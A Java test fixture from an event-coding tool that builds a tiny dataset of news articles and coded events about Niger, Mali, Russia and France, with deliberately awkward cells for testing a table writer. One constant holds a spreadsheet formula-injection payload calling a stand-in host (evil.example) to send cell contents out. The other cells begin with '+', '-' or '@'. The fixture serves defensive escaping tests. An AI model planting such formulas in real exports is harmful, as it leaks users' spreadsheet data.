package org.entente.table;

import java.time.LocalDate;
import java.util.List;
import org.entente.act.ActType;
import org.entente.article.ArticleSummary;
import org.entente.coding.ActorKind;
import org.entente.coding.Mention;
import org.entente.date.DatePrecision;
import org.entente.date.ResolvedDate;
import org.entente.event.Dataset;
import org.entente.event.Event;
import org.entente.event.LinkedMention;
import org.entente.party.TestParties;

/** A tiny dataset with every awkward cell the writer must get right. */
final class Fixtures {

  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\") Mali expelled French troops.";
  static final String PACT = "Niger and Russia signed, on Monday, a \"military\" pact.";

  private Fixtures() {}

  /** A writer with the bundled party dictionary, as `entente code` without --dictionary has. */
  static DatasetWriter writer() {
    return new DatasetWriter(WriteOptions.defaults(), TestParties.bundled());
  }

  static DatasetWriter writer(StagedWrite.Mover mover) {
    return new DatasetWriter(WriteOptions.defaults(), TestParties.bundled(), mover);
  }

  static Dataset dataset() {
    return new Dataset(articles(), mentions(), events());
  }

  static List<ArticleSummary> articles() {
    return List.of(
        new ArticleSummary("a1", "a1.txt", "Niger, Russia sign deal", LocalDate.of(2023, 12, 4), "manifest", "RFI",
            "https://example.org/a1", 10, 2, List.of()),
        new ArticleSummary("a2", "a2.txt", " \"Quoted\" title ", null, null, "  Le Monde ", null, 3, 1,
            List.of("+dateline 2023-12-05", "body says 2023-12-01")));
  }

  static List<LinkedMention> mentions() {
    return List.of(
        new LinkedMention("m1", "e1", new Mention("a1", 3, 100, 160, "NER", "RUS", ActType.COOPERATION_MILITARY,
            new ResolvedDate(LocalDate.of(2023, 12, 4), DatePrecision.DAY, "on Monday"), "Niger", "Russia",
            "signed", PACT, ActorKind.NAMED, ActorKind.NAMED)),
        new LinkedMention("m2", "e1", new Mention("a1", 5, 200, 230, "NER", "RUS", ActType.COOPERATION_MILITARY,
            ResolvedDate.reported(LocalDate.of(2023, 12, 4)), "Niamey", "Moscow", "deal",
            " Both sides praised the deal. ", ActorKind.PAIR, ActorKind.PAIR)),
        new LinkedMention("m3", "e2", new Mention("a2", 1, 0, 58, "MLI", "FRA", ActType.EXPULSION_FORCES,
            new ResolvedDate(null, DatePrecision.UNKNOWN, ""), "'Mali'", "\tFrench", "@expelled", HYPERLINK, ActorKind.NAMED, ActorKind.NAMED)));
  }

  static List<Event> events() {
    return List.of(
        new Event("e1", LocalDate.of(2023, 12, 4), DatePrecision.DAY, "NER", "Niger", "RUS", "Russia",
            ActType.COOPERATION_MILITARY, 2, List.of("a1"), LocalDate.of(2023, 12, 4), PACT, "a1"),
        new Event("e2", null, DatePrecision.UNKNOWN, "MLI", "Mali", "FRA", "France", ActType.EXPULSION_FORCES, 1,
            List.of("a2"), null, HYPERLINK, "a2"),
        new Event("e3", LocalDate.of(2023, 7, 1), DatePrecision.MONTH, "NER", "Niger", "EU", "European Union",
            ActType.COOPERATION_VISIT, 1, List.of("a1", "a2"), LocalDate.of(2023, 12, 4),
            "In July, a delegation visited Brussels.", "a1"),
        new Event("e4", LocalDate.of(2023, 1, 1), DatePrecision.YEAR, "BFA", "Burkina Faso", "MLI", "Mali",
            ActType.ALLIANCE_FORMATION, 1, List.of("a2"), null, "-Mali and Burkina Faso formed an alliance.", "a2"));
  }
}
